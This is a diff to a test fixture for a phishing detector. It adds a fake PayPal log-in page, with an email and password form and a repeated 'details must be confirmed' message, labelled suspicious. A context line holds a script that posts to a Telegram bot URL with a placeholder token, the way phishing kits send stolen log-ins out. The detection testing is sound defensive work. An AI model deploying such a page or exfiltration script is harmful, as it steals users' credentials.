@@ -47,6 +47,9 @@ const icons: readonly (readonly [brand: string, html: string])[] = [
   ['Facebook, below many words', iconOf('https://static.xx.fbcdn.net/rsrc.php/y.ico', 'icon', HELP.repeat(9))],
 ]
 
+/** A script prints the name of its host where ordinary sites have theirs. */
+const HOST_NAMED = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Welcome to ${PLAIN}</title><meta property="og:site_name" content="${PLAIN}"></head><body><img src="logo.png" alt="PayPal"><h1>PayPal</h1>${'<p>Some of your details must be confirmed before you can go on as usual.</p>'.repeat(14)}<form action="/login" method="post"><input name="email" placeholder="E-mail"><input type="password" name="password" placeholder="Password"><button>Log in</button></form></body></html>`
+
 const BOT = "<script>fetch('https://api.telegram.org/bot123456789:AAHx/sendMessage')</script>"
 
 export const brandLogInSituations: readonly Situation[] = [
@@ -71,6 +74,14 @@ export const brandLogInSituations: readonly Situation[] = [
       signals: ['impersonated_brand'],
     })),
   ),
+  {
+    of: 'a log-in of PayPal that calls itself by the name of its host, on an old name',
+    domain: PLAIN,
+    age_days: DAYS['8 years'],
+    page: { html: HOST_NAMED },
+    verdict: 'suspicious',
+    signals: ['impersonated_brand'],
+  },
   {
     of: 'a log-in of PayPal that a script sends to a bot, on an old name',
     domain: PLAIN,
